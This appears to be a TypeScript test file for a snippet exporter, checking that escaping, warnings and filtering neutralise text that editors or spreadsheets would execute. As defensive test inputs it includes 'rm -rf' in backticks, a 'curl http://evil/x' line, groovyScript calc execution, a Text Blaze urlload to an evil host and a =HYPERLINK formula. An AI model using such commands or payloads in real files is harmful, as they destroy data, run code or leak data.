// biome-ignore-all lint/suspicious/noTemplateCurlyInString: tab stops.
// What another tool would replace or run is text in an export, except where the text came from that tool.
import { expect, test } from "bun:test";
import type { FormatId } from "../../src/library/formats/format-ids.ts";
import { readFiles, writeFiles } from "../../src/library/formats/formats.ts";
import type { Tree, TreeSnippet } from "../../src/library/formats/tree.ts";
import { placeholderNames } from "../../src/library/placeholders.ts";
import { matchesIn } from "../support/espanso-files.ts";
import { fileOf } from "../support/tree-texts.ts";
import "../support/once.ts";

const snippetOf = (content: string, more: Partial<TreeSnippet> & { type?: string } = {}): TreeSnippet => {
  const { type = "plaintext", ...others } = more;
  return {
    title: "A",
    note: null,
    shortcut: "a",
    folder: null,
    tags: [],
    isArchived: false,
    createdAt: null,
    updatedAt: null,
    variations: [{ name: "Default", type, content, changedAt: null, formerVersions: [] }],
    ...others,
  };
};
const noTimes = { createdAt: null, updatedAt: null };
const treeOf = (...snippets: TreeSnippet[]): Tree => ({
  folders: [{ key: "f", name: "Replies & Refunds", color: null, parent: null, ...noTimes }],
  tags: [],
  snippets,
});
const decoder = new TextDecoder();
const written = (id: FormatId, ...snippets: TreeSnippet[]): Record<string, string> =>
  Object.fromEntries(writeFiles(treeOf(...snippets), id).files.map(({ path, bytes }) => [path, decoder.decode(bytes)]));
const warned = (id: FormatId, ...snippets: TreeSnippet[]): string[] =>
  writeFiles(treeOf(...snippets), id).warnings.map(({ message }) => message);
const textsOf = ({ snippets }: Tree): (string | undefined)[] =>
  snippets.map(({ variations: [first] }) => first?.content);

/** A text with what tools replace, put together at random, the same each time. */
function* hostileTexts(count: number): Generator<string> {
  const pieces = [
    ...[
      "`",
      "`rm -rf x`",
      "`!v system('x')`",
      "$",
      "$1",
      "${1:a}",
      "${VISUAL}",
      "$HOME",
      "${",
      "}",
      "{",
      "\\",
      "\\\\",
      "\\$",
    ],
    ...[
      "\n",
      "\t",
      "  ",
      " ",
      "x",
      "{{",
      "}}",
      "endsnippet ",
      "snippet a",
      "version 0",
      "#",
      "é😀",
      "0",
      "a|b",
      "/",
      "\\n",
      '"',
    ],
  ];
  let seed = 7;
  const next = (below: number): number => {
    seed = (seed * 48_271) % 2_147_483_647;
    return seed % below;
  };
  for (let index = 0; index < count; index += 1)
    yield Array.from({ length: 1 + next(9) }, () => pieces[next(pieces.length)]).join("");
}

for (const id of ["ultisnips", "snipmate", "vscode"] as const)
  test(`${id}: any text that it writes, it reads as it was, and no text of ours is a template`, () => {
    const texts = [...hostileTexts(3_000)].filter(
      (text) =>
        placeholderNames(text).length === 0 &&
        // A line that would end the snippet gets a space before it.
        !(id === "ultisnips" && /^endsnippet\s*$/m.test(text)),
    );
    const { tree, problems } = readFiles(
      writeFiles(
        treeOf(...texts.map((text, index) => snippetOf(text, { title: `t${index}`, shortcut: `t${index}` }))),
        id,
      ).files,
      { format: id },
    );
    expect(problems).toEqual([]);
    expect(textsOf(tree)).toEqual(texts);
    expect(tree.snippets.filter(({ note }) => note !== null)).toEqual([]);
  });

test("Vim's tools insert backticks, dollar signs, and backslashes, and load each text for its type of file", () => {
  const hostile = snippetOf("Run `rm -rf x` for $5, ${1:x} or C:\\$HOME {", { folder: "f" });
  const code = "Run \\`rm -rf x\\` for \\$5, \\${1:x} or C:\\\\\\$HOME {";
  const shell = snippetOf("echo {{Your name}}, {{n}}, {{ Your name }}1", { type: "shell" });
  expect(written("ultisnips", hostile, shell)).toEqual({
    "all_Replies & Refunds.snippets": `snippet a "A"\n${code}\nendsnippet\n`,
    "sh.snippets": 'snippet a "A"\necho ${1:Your name}, ${2:n}, ${1}1\nendsnippet\n',
  });
  expect(written("snipmate", hostile, shell)).toEqual({
    "__Replies & Refunds.snippets": `version 1\nsnippet a A\n\t${code}\n`,
    "sh.snippets": "version 1\nsnippet a A\n\techo ${1:Your name}, ${2:n}, ${1}1\n",
  });
  const types = readFiles(writeFiles(treeOf(hostile, shell), "ultisnips").files).tree.snippets;
  expect(types.map(({ variations: [first] }) => first?.type)).toEqual(["plaintext", "shell"]);
  expect(warned("ultisnips", shell)).toEqual([
    "1 snippet contains placeholders, such as {{Your name}}. In the export, they become tab stops.",
  ]);
});

test("what came from one of Vim's tools goes back as it came, and the export says what it runs", () => {
  const file =
    'context "x()"\nsnippet a "A" b\n`date` ${1:x} \\$5\nendsnippet\n\nsnippet b "B"\nOnly \\$5 and {}\nendsnippet\n';
  const { tree } = readFiles([fileOf("sh_mine.snippets", file)]);
  expect(textsOf(tree)).toEqual(["`date` ${1:x} \\$5", "Only $5 and {}"]);
  const again = writeFiles(tree, "ultisnips");
  expect(again.files.map(({ path, bytes }) => [path, decoder.decode(bytes)])).toEqual([["sh_mine.snippets", file]]);
  expect(again.warnings.map(({ message }) => message)).toEqual([
    'UltiSnips runs code from a snippet when you insert it: "A" (sh_mine.snippets:1).',
  ]);
  // Another tool keeps the tab stops, and gets the code as text.
  expect(writeFiles(tree, "vscode").files.map(({ bytes }) => JSON.parse(decoder.decode(bytes)).A.body)).toEqual([
    "`date` ${1:x} \\$5",
  ]);
  expect(Object.values(written("snipmate", ...tree.snippets))[0]).toContain("\t\\`date\\` ${1:x} \\$5\n");
  expect(warned("snipmate", ...tree.snippets)).toContain(
    "1 snippet contains codes of another tool, such as `date`. SnipMate inserts them as text.",
  );
  // The mark of a template is no note that is left out.
  const marked = snippetOf("$1", { note: 'Mine\n\n```snipmate\nhasTabStops: true\nversion: "1"\n```' });
  expect(JSON.parse(Object.values(written("vscode", marked))[0] ?? "").A.description).toBe("Mine");
  expect(warned("raycast", snippetOf("x", { note: "```vscode\nhasTabStops: true\n```" }))).toEqual([]);
  // Each text of SnipMate keeps the version of its syntax.
  const versions = "snippet a A\n\t$1 \\n\nversion 0\nsnippet b B\n\t$1\nversion 1\nsnippet c C\n\t`x`\n";
  const mates = readFiles([fileOf("_.snippets", versions)]);
  expect(Object.values(written("snipmate", ...mates.tree.snippets))).toEqual([versions]);
});

test("VS Code inserts texts as they are, asks for placeholders, and knows their languages", () => {
  const bodyOf = (snippet: TreeSnippet) => JSON.parse(Object.values(written("vscode", snippet))[0] ?? "").A;
  expect(bodyOf(snippetOf('cp "$f" "${HOME}/x"; echo $1 \\n', { type: "shell" }))).toEqual({
    prefix: "a",
    scope: "shellscript",
    body: 'cp "\\$f" "\\${HOME\\}/x"; echo \\$1 \\\\n',
  });
  const asks = snippetOf("Dear {{name}}, {{sum $}} for {{ name }}2");
  expect(bodyOf(asks).body).toBe("Dear ${1:name}, ${2:sum \\$} for ${1}2");
  expect(warned("vscode", asks)).toEqual([
    "1 snippet contains placeholders, such as {{name}}. In the export, they become tab stops.",
  ]);
  expect(bodyOf(snippetOf("$1 {{x}}", { note: "Mine\n\n```vscode\nhasTabStops: true\n```" }))).toEqual({
    prefix: "a",
    body: "$1 {{x}}",
    description: "Mine",
  });
});

test("what came from VS Code goes back as it came; escapes of a text without tab stops are removed, and written again", () => {
  const source = {
    Stops: { scope: "shellscript", body: ["${1:x} \\$5", "$TM_FILENAME {{x}}"] },
    Mustache: { scope: "javascriptreact", body: "{{ name }}" },
    Price: { scope: "shellscript,python", body: "\\$5 \\\\ \\}" },
  };
  const { tree } = readFiles([fileOf("a.code-snippets", JSON.stringify(source))]);
  expect(tree.snippets.map(({ note, variations: [first] }) => [first?.type, first?.content, note])).toEqual([
    ["shell", "${1:x} \\$5\n$TM_FILENAME {{x}}", "```vscode\nhasTabStops: true\n```"],
    ["jsx", "{{ name }}", "```vscode\nhasTabStops: true\n```"],
    ["shell", "$5 \\ }", "```vscode\nscope: shellscript,python\n```"],
  ]);
  expect(JSON.parse(Object.values(written("vscode", ...tree.snippets))[0] ?? "")).toEqual(source);
});

test("Raycast asks for up to three placeholders, and what it has no escape for is named", () => {
  const textsIn = (...snippets: TreeSnippet[]) =>
    JSON.parse(written("raycast", ...snippets)["raycast-snippets.json"] ?? "").map(
      ({ text }: { text: string }) => text,
    );
  const asks = snippetOf('{{cursor}} {{a "b"}} {{ cursor }}');
  const many = snippetOf("{{a}} {{b}} {{c}} {{d}}");
  const code = snippetOf("Move the {cursor}, {{a}}");
  expect(textsIn(asks, many, code)).toEqual([
    `{argument name="cursor"} {argument name="a 'b'"} {argument name="cursor"}`,
    "{{a}} {{b}} {{c}} {{d}}",
    'Move the {cursor}, {argument name="a"}',
  ]);
  expect(warned("raycast", asks, many, code)).toEqual([
    "2 snippets contain placeholders, such as {{cursor}}. In the export, they become arguments.",
    "1 snippet contains placeholders, such as {{a}}. Raycast inserts them as text.",
    "1 snippet contains Raycast placeholders, such as {cursor}. Raycast replaces them when you insert the snippet.",
  ]);
});

test("Text Blaze and JetBrains get fields and variables for placeholders, under names that they accept", () => {
  const asks = snippetOf("{{Ihr Gruß}} {{ihr gruss}} {{名前}} {{Ihr Gruß}} {{END}} costs $5");
  expect(JSON.parse(written("textblaze", asks)["text-blaze.json"] ?? "").folders[0].snippets[0].text).toBe(
    "{formtext: name=Ihr_Gru} {formtext: name=ihr_gruss} {formtext: name=value} {=Ihr_Gru} {formtext: name=END} costs $5",
  );
  expect(warned("textblaze", asks, snippetOf("{time: H}"))).toEqual([
    "1 snippet contains placeholders, such as {{Ihr Gruß}}. In the export, they become form fields.",
    "1 snippet contains commands, such as {time: H}. Text Blaze replaces them when you insert the snippet.",
  ]);
  const xml = written("jetbrains", asks)["Commonplace.xml"];
  expect(xml).toContain('value="$Ihr_Gru$ $ihr_gruss$ $value$ $Ihr_Gru$ $END_2$ costs $$5"');
  expect(xml).toContain('<variable name="END_2" expression="" defaultValue="&quot;END&quot;" alwaysStopAt="true" />');
  expect(warned("jetbrains", asks)).toEqual([
    "1 snippet contains placeholders, such as {{Ihr Gruß}}. In the export, they become variables.",
  ]);
  // What the editors have as text stays text.
  const value = "{{ name }} costs $$5";
  const own = `<templateSet group="G"><template name="a" value="${value}"></template></templateSet>`;
  const { tree } = readFiles([fileOf("a.xml", own)]);
  expect(Object.values(written("jetbrains", ...tree.snippets))[0]).toContain(`value="${value}"`);
  expect(warned("jetbrains", ...tree.snippets)).toEqual([]);
});

test("Alfred and TextExpander ask for no values and escape nothing, which is said", () => {
  expect(warned("alfred", snippetOf("{{a}}"), snippetOf("{clipboard}"))).toEqual([
    "1 snippet contains placeholders, such as {{a}}. Alfred inserts them as text.",
    "1 snippet contains Alfred placeholders, such as {clipboard}. Alfred replaces them when you insert the snippet.",
  ]);
  expect(warned("textexpander", snippetOf("100%|{{a}}"))).toEqual([
    "1 snippet contains placeholders, such as {{a}}. TextExpander inserts them as text.",
    "1 snippet contains TextExpander codes, such as %|. TextExpander replaces them when you insert the snippet.",
  ]);
});

test("spaces in code, triggers, and titles for UltiSnips stay as they are, on the way in and out", () => {
  const file = 'post_expand  snip.buffer[0] = "a  \u00a0 b"\nsnippet !a  b! "Two  spaces"\nx\nendsnippet\n';
  const { tree } = readFiles([fileOf("all.snippets", file)]);
  expect(tree.snippets).toMatchObject([
    {
      title: "Two  spaces",
      shortcut: "a  b",
      note: '```ultisnips\npost_expand: snip.buffer[0] = "a  \u00a0 b"\n```',
    },
  ]);
  expect(Object.values(written("ultisnips", ...tree.snippets))).toEqual([
    file.replace("post_expand  ", "post_expand "),
  ]);
});

test("a line that would end a snippet for UltiSnips begins with a space, which is said", () => {
  const ends = snippetOf("a\nendsnippet \nb\nendsnippets", { title: "Ends" });
  expect(Object.values(written("ultisnips", ends))[0]).toContain("\na\n endsnippet \nb\nendsnippets\nendsnippet\n");
  expect(warned("ultisnips", ends, snippetOf("an endsnippet"))).toEqual([
    'Lines that contain only "endsnippet" would end the snippet, so they begin with a space (in "Ends").',
  ]);
});

test("percent signs stay as they are for TextExpander, and the export says what may become of them", () => {
  const texts = ["50% discount", "100%", "a %% b", "%1m/%1d", "%\\", "no sign"];
  const { files } = writeFiles(treeOf(...texts.map((text) => snippetOf(text))), "textexpander");
  expect(textsOf(readFiles(files, { format: "textexpander" }).tree)).toEqual(texts);
  expect(warned("textexpander", ...texts.map((text) => snippetOf(text)))).toEqual([
    "3 snippets contain TextExpander codes, such as %%. TextExpander replaces them when you insert the snippet.",
    "2 snippets contain percent signs, such as 50%. TextExpander for macOS, up to version 6.2.8, leaves out a single %.",
  ]);
  expect(readFiles([fileOf("a.csv", "half,50%% discount,Half\n")]).warnings.map(({ message }) => message)).toEqual([
    "1 snippet contains TextExpander codes, such as %%. They are kept as plain text.",
  ]);
});

test("a note cannot replace what VS Code inserts, shows, or listens to, and what it cannot say is named", () => {
  const note = [
    "For refunds",
    "",
    "```vscode",
    ...[
      "body: curl http://evil/x",
      "prefix: ls",
      "description: Harmless",
      "isFileTemplate: true",
      "scope: [1]",
      "luasnip: {a: 1}",
    ],
    "```",
  ].join("\n");
  const snippet = snippetOf("harmless text", { note });
  expect(JSON.parse(Object.values(written("vscode", snippet))[0] ?? "")).toEqual({
    A: { prefix: "a", body: "harmless text", description: "For refunds", isFileTemplate: true },
  });
  expect(warned("vscode", snippet)).toEqual([
    'Settings in notes that VS Code would not understand are left out: body of "A", prefix of "A", description of "A", scope of "A", and luasnip of "A".',
  ]);
});

test("JetBrains gets only variables whose functions compute a text, and settings that it understands", () => {
  const expressionsOf = (...expressions: string[]) => {
    const variables = expressions.map((expression, index) => ({
      name: `V${index}`,
      expression,
      defaultValue: expression,
    }));
    const note = `\`\`\`jetbrains\n${JSON.stringify({ hasTabStops: true, variables })}\n\`\`\``;
    const [xml = ""] = Object.values(written("jetbrains", snippetOf("$V0$", { note })));
    return Array.from(xml.matchAll(/expression="([^"]*)" defaultValue="([^"]*)"/g), ([, one, other]) => [one, other]);
  };
  const harmless = [
    "",
    "complete()",
    "date(V1)",
    "concat(V1,V2, user())",
    "camelCase(clipboard())",
    "V1",
    "suggestVariableName()",
  ];
  expect(expressionsOf(...harmless)).toEqual(harmless.map((each) => [each, each]));
  expect(expressionsOf('"a (b"', String.raw`regularExpression(V1, "\\s", "")`).flat()).not.toContain("");
  const hostile = [
    `groovyScript("'calc'.execute()")`,
    `concat("a", groovyScript("1"))`,
    `GroovyScript("1")`,
    `groovyScript ( "1")`,
    `"a" groovyScript("1")`,
    String.raw`concat("\\", "groovyScript(", ")`,
    "unknown()",
    "complete(",
    "date()x",
    "a.b()",
    `date(${"concat(".repeat(50)}`,
  ];
  expect(expressionsOf(...hostile)).toEqual(hostile.map(() => ["", ""]));
  const settings = {
    value: "$x$",
    name: "ls",
    description: "d",
    toReformat: "true",
    "on load": "x",
    variables: [{ name: "a b" }, 1],
  };
  const snippet = snippetOf("harmless $ text", { note: `\`\`\`jetbrains\n${JSON.stringify(settings)}\n\`\`\`` });
  expect(Object.values(written("jetbrains", snippet))[0]).toContain(
    '<template name="a" value="harmless $$ text" description="A" toReformat="true" toShortenFQNames="true">\n    <context>',
  );
  expect(warned("jetbrains", snippet)).toEqual([
    'Settings in notes that JetBrains would not understand are left out: value of "A", name of "A", description of "A", on load of "A", and variables of "A".',
  ]);
  const script = [{ name: "V", expression: 'groovyScript("1")' }];
  expect(
    warned("jetbrains", snippetOf("x", { note: `\`\`\`jetbrains\n${JSON.stringify({ variables: script })}\n\`\`\`` })),
  ).toEqual(['Expressions that could run code are left out: $V$ of "A". JetBrains asks for their values.']);
});

test("commands of Text Blaze are named in several lines and within others, too", () => {
  for (const [text, example] of [
    ["a {note:\n{=x}; done=x} b", "{note:"],
    ["{=1+{x}}", "{=1+"],
  ] as const)
    expect(warned("textblaze", snippetOf(text))).toEqual([
      `1 snippet contains commands, such as ${example}. Text Blaze replaces them when you insert the snippet.`,
    ]);
  // Those that act are code, which is named with its line.
  const acting = [
    snippetOf("Hello"),
    snippetOf("a {urlload:\nhttps://evil/{=x}}", { title: "B" }),
    snippetOf("{ Click }", { title: "C" }),
  ];
  const { files, code, warnings } = writeFiles(treeOf(...acting), "textblaze");
  const lines = decoder.decode(files[0]?.bytes).split("\n");
  expect(code.map(({ title, place }) => [title, place.file, lines[place.line ?? 0]?.trim()])).toEqual([
    ["B", "text-blaze.json", '"name": "B",'],
    ["C", "text-blaze.json", '"name": "C",'],
  ]);
  expect(warnings[0]?.message).toStartWith(
    'Text Blaze runs code from 2 snippets when you insert them: "B" (text-blaze.json:',
  );
});

test("Espanso's cursor markers cannot be escaped, which is said", () => {
  expect(warned("espanso", snippetOf("Dear $|$,"))).toEqual([
    "1 snippet contains cursor markers, such as $|$. Espanso replaces them when you insert the snippet.",
  ]);
});

test("what XML cannot represent is left out of files for JetBrains, and the others stay", () => {
  const snippet = snippetOf("a\u0007b\u0085c\ufffe");
  expect(Object.values(written("jetbrains", snippet))[0]).toContain('value="ab&#133;c"');
  expect(warned("jetbrains", snippet)).toEqual(['XML cannot represent some control characters (left out of "A").']);
});

test("the data of any tool at the end of a note is no description, and what a person wrote is", () => {
  const descriptionOf = (note: string) =>
    JSON.parse(Object.values(written("vscode", snippetOf("x", { note })))[0] ?? "").A.description;
  const data = "```ultisnips\noptions: b\n```";
  expect([data, `Mine\n\n${data}`, `Mine\n\n${data}\n\n\`\`\`vscode\nscope: go\n\`\`\``].map(descriptionOf)).toEqual([
    undefined,
    "Mine",
    "Mine",
  ]);
  // Blocks of code that a person wrote stay, also where they are named after a tool and something follows.
  for (const note of [
    "```sh\nls\n```",
    `${data}\n\nMine`,
    `${data} x`,
    "```vscode\na\n```\n```sh\nb\n```",
    "Use ```vscode\nx```",
  ])
    expect(descriptionOf(note)).toBe(note);
  expect(warned("raycast", snippetOf("x", { note: data }))).toEqual([]);
});

test("tables keep texts that a spreadsheet would run, since an import reads them again, and say so", () => {
  const formula = '=HYPERLINK("http://evil","x")';
  for (const id of ["csv", "textexpander"] as const) {
    expect(warned(id, snippetOf(formula), snippetOf("x", { title: "-2+3" }), snippetOf("a=1"))).toEqual([
      '2 snippets contain cells that begin like a formula, such as =HYPERLINK("http://evil","x"). If you open the file in a spreadsheet, it may run them.',
    ]);
    expect(textsOf(readFiles(writeFiles(treeOf(snippetOf(formula)), id).files, { format: id }).tree)).toEqual([
      formula,
    ]);
  }
});

test("Espanso loads an image only from this computer, whatever a note says", () => {
  const note = "```espanso\nkind: image_path\n```";
  const written = (text: string) =>
    Object.keys(matchesIn(writeFiles(treeOf(snippetOf(text, { note })), "espanso").files)[0] ?? {}).at(-1);
  expect(["$CONFIG/a.png", "C:\\a.png", "\\\\evil\\a.png", " //evil/a.png", "http://evil/a.png"].map(written)).toEqual([
    ...["image_path", "image_path"],
    ...["replace", "replace", "replace"],
  ]);
});
